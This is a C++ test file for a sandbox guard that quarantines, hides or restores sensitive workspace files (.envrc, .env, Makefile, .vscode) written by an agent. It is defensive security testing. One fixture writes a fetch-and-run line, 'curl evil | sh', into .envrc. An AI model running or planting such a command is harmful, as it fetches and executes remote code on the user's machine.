#include <sys/socket.h>
#include <sys/un.h>

#include <catch2/catch.hpp>

#include "guard_support.hpp"

using namespace agentbox::launch::test;
using namespace agentbox::launch;
using namespace agentbox;
using Kind = GuardEvent::Kind;

TEST_CASE("a watched name that appears is taken to quarantine while the room is frozen") {
  World world;
  world.watch_for(".envrc");
  Watching run(world);
  write(world.in(".envrc"), "curl evil | sh\n");
  REQUIRE(run.until([&] { return !run.events.empty(); }));
  CHECK(run.events[0].kind == Kind::quarantined);
  CHECK(run.events[0].path.str() == world.in(".envrc"));
  CHECK_FALSE(exists(world.in(".envrc")));
  CHECK(run.room.freezes == 1);
  CHECK(run.room.frozen == 0);
  std::vector<Quarantined> items = world.quarantine();
  REQUIRE(items.size() == 1);
  CHECK(items[0].id == run.events[0].id);
  CHECK(items[0].path.str() == world.in(".envrc"));
  CHECK(items[0].session == "s1");
  CHECK(Quarantine(abs(world.state)).content(items[0], 100).bytes == "curl evil | sh\n");
}

TEST_CASE("what nobody watches for is left alone, and the room is not frozen for it") {
  World world;
  world.watch_for(".envrc");
  Watching run(world);
  write(world.in("main.c"), "int main;");
  write(world.in(".envrc.txt"), "x");
  write(world.in("last"), "");
  run.settle();
  CHECK(run.events.empty());
  CHECK(run.room.freezes == 0);
  CHECK(read(world.in("main.c")) == "int main;");
}

TEST_CASE("a watched name is taken whatever it is, and however it came") {
  World world;
  world.watch_for(".envrc");
  Watching run(world);
  std::string path = world.in(".envrc");

  SECTION("renamed into place") {
    write(world.in("x"), "evil");
    ::rename(world.in("x").c_str(), path.c_str());
  }
  SECTION("a hard link") {
    write(world.in("x"), "evil");
    REQUIRE(::link(world.in("x").c_str(), path.c_str()) == 0);
  }
  SECTION("a fifo") {
    REQUIRE(::mkfifo(path.c_str(), 0644) == 0);
  }
  SECTION("a dangling symbolic link") {
    REQUIRE(::symlink("/nonexistent", path.c_str()) == 0);
  }
  SECTION("a locked file") {
    write(path, "evil");
    ::chmod(path.c_str(), 0);
  }
  SECTION("a locked directory") {
    make_dir(path);
    write(path + "/x", "");
    ::chmod(path.c_str(), 0);
  }
  SECTION("a socket") {
    int fd = ::socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
    sockaddr_un address = {};
    address.sun_family = AF_UNIX;
    path.copy(address.sun_path, sizeof address.sun_path - 1);
    REQUIRE(::bind(fd, reinterpret_cast<sockaddr*>(&address), sizeof address) == 0);
    ::close(fd);
  }
  REQUIRE(run.until([&] { return !run.events.empty(); }));
  CHECK(run.events[0].kind == Kind::quarantined);
  CHECK_FALSE(exists(path));
  CHECK(world.quarantine().size() == 1);
  CHECK(run.room.frozen == 0);
}

TEST_CASE("a symbolic link is stored as a link, and what it leads to is left alone") {
  World world;
  world.watch_for(".envrc");
  write(world.folder / "owners", "precious");
  Watching run(world);
  (void)!::symlink((world.folder / "owners").c_str(), world.in(".envrc").c_str());
  REQUIRE(run.until([&] { return !run.events.empty(); }));
  CHECK(read(world.folder / "owners") == "precious");
  REQUIRE(world.quarantine().size() == 1);
  CHECK(world.quarantine()[0].kind == policy::FileKind::symlink);
  CHECK(Quarantine(abs(world.state)).content(world.quarantine()[0], 100).bytes == world.folder / "owners");
}

TEST_CASE("another name of what was taken can't change it once the room is dead") {
  World world;
  world.watch_for(".envrc");
  Watching run(world);
  write(world.in("x"), "harmless");
  (void)!::link(world.in("x").c_str(), world.in(".envrc").c_str());
  REQUIRE(run.until([&] { return !run.events.empty(); }));
  (void)run.guard.finish();
  write(world.in("x"), "evil");
  CHECK(Quarantine(abs(world.state)).content(world.quarantine()[0], 100).bytes == "harmless");
}

TEST_CASE("a parent that is swapped for a link between event and action leads nowhere") {
  World world;
  make_dir(world.in("pkg"));
  make_dir(world.folder / "home");
  write(world.folder / "home/.envrc", "the owner's own");
  world.watch_for(".envrc", policy::Watched::Why::protect, "/pkg");
  Watching run(world);
  write(world.in("pkg/.envrc"), "evil");
  // At the worst moment: the event is in the queue, the guard has looked, and now it freezes.
  run.room.on_freeze = [&] {
    run.room.on_freeze = nullptr;
    ::rename(world.in("pkg").c_str(), world.in("pkg2").c_str());
    (void)!::symlink((world.folder / "home").c_str(), world.in("pkg").c_str());
  };
  REQUIRE(run.until([&] { return !run.events.empty(); }));
  CHECK(read(world.folder / "home/.envrc") == "the owner's own");
  // The link itself is what had to go.
  CHECK(run.events[0].path.str() == world.in("pkg"));
  CHECK_FALSE(exists(world.in("pkg")));
}

TEST_CASE("a directory that is replaced is watched again") {
  World world;
  make_dir(world.in("pkg"));
  make_dir(world.in("pkg/sub"));
  world.watch_for(".envrc", policy::Watched::Why::protect, "/pkg/sub");
  Watching run(world);
  ::rename(world.in("pkg").c_str(), world.in("old").c_str());
  make_dir(world.in("pkg"));
  make_dir(world.in("pkg/sub"));
  run.settle();
  CHECK(run.events.empty());
  write(world.in("pkg/sub/.envrc"), "evil");
  REQUIRE(run.until([&] { return !run.events.empty(); }));
  CHECK_FALSE(exists(world.in("pkg/sub/.envrc")));

  SECTION("also when it is filled before it is put in place") {
    run.events.clear();
    write(world.in("old/sub/.envrc"), "evil");
    ::rename(world.in("pkg").c_str(), world.in("older").c_str());
    ::rename(world.in("old").c_str(), world.in("pkg").c_str());
    REQUIRE(run.until([&] { return !run.events.empty(); }));
    CHECK_FALSE(exists(world.in("pkg/sub/.envrc")));
  }
}

TEST_CASE("a burst of ten thousand files does not hide one") {
  World world;
  world.watch_for(".envrc");
  Watching run(world);
  for (int i = 0; i < 10'000; ++i) {
    write(world.in("f\n" + std::to_string(i)), "");
    if (i == 5'000) write(world.in(".envrc"), "evil");
  }
  REQUIRE(run.until([&] { return !run.events.empty(); }));
  CHECK(run.events[0].kind == Kind::quarantined);
  CHECK_FALSE(exists(world.in(".envrc")));
}

TEST_CASE("when the queue overflows, everything is looked at") {
  World world;
  world.watch_for(".envrc");
  world.protect("Makefile");
  write(world.in("Makefile"), "all:");
  Watching run(world);
  std::string limit = read("/proc/sys/fs/inotify/max_queued_events");
  int files = std::atoi(limit.c_str()) / 2 + 1000;
  REQUIRE(files < 100'000);
  // Made and removed: two events each, so the queue is full before what matters.
  for (int i = 0; i < files; ++i) {
    std::string name = world.in("f" + std::to_string(i));
    write(name, "");
    ::unlink(name.c_str());
  }
  write(world.in(".envrc"), "evil");
  write(world.in("new"), "all: ok");
  ::rename(world.in("new").c_str(), world.in("Makefile").c_str());
  REQUIRE(run.until([&] { return run.events.size() >= 2; }));
  CHECK(run.count(Kind::quarantined) == 1);
  CHECK(run.count(Kind::placed_again) == 1);
  CHECK_FALSE(exists(world.in(".envrc")));
}

TEST_CASE("a hidden name that appears is hidden, not taken: it may be the owner's") {
  World world;
  world.watch_for(".env", policy::Watched::Why::hide);
  Watching run(world);
  write(world.in(".env"), "TOKEN=1");
  REQUIRE(run.until([&] { return !run.events.empty(); }));
  CHECK(run.events[0].kind == Kind::hidden);
  CHECK(read(world.in(".env")) == "TOKEN=1");
  std::vector<plan::Mask> masks = run.room.furnished_as<plan::Mask>();
  REQUIRE(masks.size() == 1);
  CHECK(masks[0].target.str() == world.in(".env"));
  CHECK(masks[0].kind == policy::FileKind::regular);
  // Written in place: the mask is still on it. Replaced: it fell off.
  write(world.in(".env"), "TOKEN=2");
  write(world.in("other"), "");
  run.settle();
  CHECK(run.room.furnished_as<plan::Mask>().size() == 1);
  write(world.in(".env.new"), "TOKEN=3");
  ::rename(world.in(".env.new").c_str(), world.in(".env").c_str());
  REQUIRE(run.until([&] { return run.room.furnished_as<plan::Mask>().size() == 2; }));
  CHECK(run.guard.finish().size() == 2);
  CHECK(read(world.in(".env")) == "TOKEN=3");
}

TEST_CASE("what its owner made between the look and the start is guarded as if it had been there") {
  World world;
  world.watch_for(".envrc");
  world.watch_for(".env", policy::Watched::Why::hide);
  boost::asio::io_context loop;
  FakeRoom room;
  Guard guard(world.policy, world.plan, abs(world.state), "s1");
  write(world.in(".envrc"), "mine");
  write(world.in(".env"), "secret");
  guard.watch(loop, room);
  REQUIRE(room.furnished_as<plan::Bind>().size() == 1);
  CHECK(room.furnished_as<plan::Bind>()[0].target.str() == world.in(".envrc"));
  CHECK(room.furnished_as<plan::Bind>()[0].mode == plan::Bind::Mode::read);
  CHECK(room.furnished_as<plan::Mask>().size() == 1);
  CHECK(guard.finish().empty());
  CHECK(read(world.in(".envrc")) == "mine");
}

TEST_CASE("a protected file that the host replaces is protected again") {
  World world;
  write(world.in(".envrc"), "old");
  world.protect(".envrc");
  Watching run(world);
  SECTION("by rename") {
    write(world.in("x"), "new");
    ::rename(world.in("x").c_str(), world.in(".envrc").c_str());
    REQUIRE(run.until([&] { return !run.events.empty(); }));
    CHECK(run.room.furnished.size() == 1);
  }
  SECTION("deleted and made anew") {
    ::unlink(world.in(".envrc").c_str());
    write(world.in(".envrc"), "new");
    REQUIRE(run.until([&] { return !run.events.empty(); }));
  }
  SECTION("deleted, and made anew a moment later, while the room is frozen for it") {
    ::unlink(world.in(".envrc").c_str());
    REQUIRE(run.until([&] { return run.room.frozen > 0; }));
    CHECK(run.room.furnished.empty());
    write(world.in(".envrc"), "new");
    REQUIRE(run.until([&] { return !run.events.empty(); }));
  }
  CHECK(run.events[0].kind == Kind::placed_again);
  std::vector<plan::Bind> binds = run.room.furnished_as<plan::Bind>();
  REQUIRE_FALSE(binds.empty());
  CHECK(binds.back().target.str() == world.in(".envrc"));
  CHECK(read(world.in(".envrc")) == "new");
  REQUIRE(run.until([&] { return run.room.frozen == 0; }));
  CHECK(count(run.guard.finish(), Kind::quarantined) == 0);
}

TEST_CASE("a protected file that was replaced, and is open for writing still, is taken") {
  World world;
  write(world.in(".envrc"), "old");
  world.protect(".envrc");
  Watching run(world);
  base::UniqueFd writer;
  SECTION("made anew") {
    ::unlink(world.in(".envrc").c_str());
    writer.reset(::open(world.in(".envrc").c_str(), O_WRONLY | O_CREAT | O_EXCL | O_CLOEXEC, 0644));
  }
  SECTION("made anew a moment later") {
    ::unlink(world.in(".envrc").c_str());
    REQUIRE(run.until([&] { return run.room.frozen > 0; }));
    writer.reset(::open(world.in(".envrc").c_str(), O_WRONLY | O_CREAT | O_EXCL | O_CLOEXEC, 0644));
  }
  SECTION("by rename, opened before") {
    writer.reset(::open(world.in("x").c_str(), O_RDWR | O_CREAT | O_CLOEXEC, 0644));
    ::rename(world.in("x").c_str(), world.in(".envrc").c_str());
  }
  REQUIRE(writer);
  REQUIRE(run.until([&] { return !run.events.empty() && run.room.frozen == 0; }));
  CHECK(run.events[0].kind == Kind::quarantined);
  CHECK(run.events[0].detail.find("open for writing") != std::string::npos);
  CHECK_FALSE(exists(world.in(".envrc")));
  (void)!::write(writer.get(), "EVIL", 4);
  REQUIRE(world.quarantine().size() == 1);
  // And what the agent makes there later is the agent's.
  run.events.clear();
  write(world.in(".envrc"), "evil");
  REQUIRE(run.until([&] { return !run.events.empty(); }));
  CHECK(run.events[0].kind == Kind::quarantined);
}

TEST_CASE("a protected file that the host deletes for good can't be made by the agent") {
  World world;
  write(world.in(".envrc"), "old");
  world.protect(".envrc");
  Watching run(world);
  ::unlink(world.in(".envrc").c_str());
  REQUIRE(run.until([&] { return !run.events.empty() && run.room.frozen == 0; }));
  run.events.clear();
  write(world.in(".envrc"), "evil");
  REQUIRE(run.until([&] { return !run.events.empty(); }));
  CHECK(run.events[0].kind == Kind::quarantined);
  CHECK_FALSE(exists(world.in(".envrc")));
}

TEST_CASE("a protected directory that the host deletes becomes a ghost, and the ghost is removed at the end") {
  World world;
  make_dir(world.in(".vscode"));
  world.protect(".vscode", policy::FileKind::directory);
  Watching run(world);
  ::rmdir(world.in(".vscode").c_str());
  REQUIRE(run.until([&] { return !run.room.furnished.empty() && run.room.frozen == 0; }));
  CHECK(exists(world.in(".vscode")));
  CHECK(run.room.furnished_as<plan::Mask>().at(0).kind == policy::FileKind::directory);
  // The guard's own directory is no event that would make it act again.
  write(world.in("other"), "");
  run.settle();
  CHECK(run.room.furnished.size() == 1);
  (void)run.guard.finish();
  CHECK_FALSE(exists(world.in(".vscode")));
}

TEST_CASE("ghost directories are removed when they are empty, children first") {
  World world;
  world.ghost(".claude");
  world.ghost(".claude/commands");
  world.ghost(".vscode");
  Guard guard(world.policy, world.plan, abs(world.state), "s1");
  for (const char* name : {".claude", ".claude/commands", ".vscode"}) REQUIRE(exists(world.in(name)));
  CHECK(world.runs().size() == 1);
  SECTION("all empty") {
    CHECK(guard.finish().empty());
    CHECK_FALSE(exists(world.in(".claude")));
    CHECK_FALSE(exists(world.in(".vscode")));
  }
  SECTION("one was filled by its owner meanwhile") {
    write(world.in(".vscode/settings.json"), "{}");
    CHECK(guard.finish().empty());
    CHECK_FALSE(exists(world.in(".claude")));
    CHECK(read(world.in(".vscode/settings.json")) == "{}");
  }
  SECTION("a link in a ghost's place is not followed") {
    make_dir(world.folder / "elsewhere");
    make_dir(world.folder / "elsewhere/commands");
    ::rmdir(world.in(".claude/commands").c_str());
    ::rmdir(world.in(".claude").c_str());
    (void)!::symlink((world.folder / "elsewhere").c_str(), world.in(".claude").c_str());
    (void)guard.finish();
    CHECK(exists(world.folder / "elsewhere/commands"));
  }
  CHECK(world.runs().empty());
}

TEST_CASE("a ghost that a second room relies on goes with the last of both") {
  World world;
  world.ghost(".vscode");
  Guard first(world.policy, world.plan, abs(world.state), "s1");
  REQUIRE(exists(world.in(".vscode")));
  // The second finds it there: for it, it is a directory to protect.
  World other;
  other.policy = world.policy;
  other.plan.furnishings.push_back(plan::Bind{.source = abs(world.in(".vscode")),
                                              .target = abs(world.in(".vscode")),
                                              .kind = policy::FileKind::directory,
                                              .mode = plan::Bind::Mode::read,
                                              .why = policy::Mount::Why::protect});
  Guard second(other.policy, other.plan, abs(world.state), "s2");
  CHECK(first.finish().empty());
  CHECK(exists(world.in(".vscode")));
  CHECK(second.finish().empty());
  CHECK_FALSE(exists(world.in(".vscode")));
}

TEST_CASE("a guard that can't freeze the room says unverified and guards no more") {
  World world;
  world.watch_for(".envrc");
  Watching run(world);
  run.room.fail_freeze = true;
  write(world.in(".envrc"), "evil");
  REQUIRE(run.until([&] { return !run.events.empty(); }));
  CHECK(run.events[0].kind == Kind::unverified);
  CHECK(run.events[0].detail == "cannot freeze the room: Connection timed out");
  // The room is dead then, and the last scan takes it.
  std::vector<GuardEvent> events = run.guard.finish();
  CHECK(count(events, Kind::quarantined) == 1);
  CHECK_FALSE(exists(world.in(".envrc")));
}

TEST_CASE("an agent that makes watched files without end is stopped, and stays frozen") {
  World world;
  world.watch_for(".envrc");
  Watching run(world);
  REQUIRE(run.until([&] {
    write(world.in(".envrc"), "evil");
    return run.count(Kind::unverified) == 1;
  }));
  CHECK(run.count(Kind::quarantined) == 100);
  CHECK(run.room.frozen > 0);
}

TEST_CASE("a locked parent doesn't save what was put into it") {
  World world;
  make_dir(world.in("pkg"));
  world.watch_for(".envrc", policy::Watched::Why::protect, "/pkg");
  Watching run(world);
  write(world.in("pkg/.envrc"), "evil");
  ::chmod(world.in("pkg").c_str(), 0);
  REQUIRE(run.until([&] { return !run.events.empty(); }));
  CHECK(run.events[0].kind == Kind::quarantined);
  CHECK_FALSE(exists(world.in("pkg/.envrc")));
}

TEST_CASE("what happens before the watch begins is seen when it begins") {
  World world;
  world.watch_for(".envrc");
  world.watch_for(".env", policy::Watched::Why::hide);
  write(world.in("Makefile"), "all:");
  world.protect("Makefile");
  make_dir(world.in(".vscode"));
  world.protect(".vscode", policy::FileKind::directory);
  Watching run(world, Guard::From::soon);
  write(world.in(".envrc"), "evil");
  write(world.in(".env"), "secret");
  write(world.in("new"), "all: ok");
  ::rename(world.in("new").c_str(), world.in("Makefile").c_str());
  ::rmdir(world.in(".vscode").c_str());
  SECTION("by the watch") {
    REQUIRE(run.until([&] { return run.events.size() == 4 && run.room.frozen == 0; }));
    CHECK(run.count(Kind::quarantined) == 1);
    CHECK(run.count(Kind::hidden) == 1);
    CHECK(run.count(Kind::placed_again) == 2);
    CHECK(run.room.furnished.size() == 3);
    run.events.clear();
    write(world.in(".envrc"), "again");
    REQUIRE(run.until([&] { return !run.events.empty(); }));
  }
  SECTION("by the last scan, when the room is dead before") {
    std::vector<GuardEvent> events = run.guard.finish();
    CHECK(count(events, Kind::quarantined) == 1);
    CHECK(run.room.furnished.empty());
  }
  CHECK_FALSE(exists(world.in(".envrc")));
}

TEST_CASE("nothing to guard costs nothing and writes nothing") {
  World world;
  Watching run(world);
  CHECK(run.guard.finish().empty());
  CHECK_FALSE(exists(world.state));
}
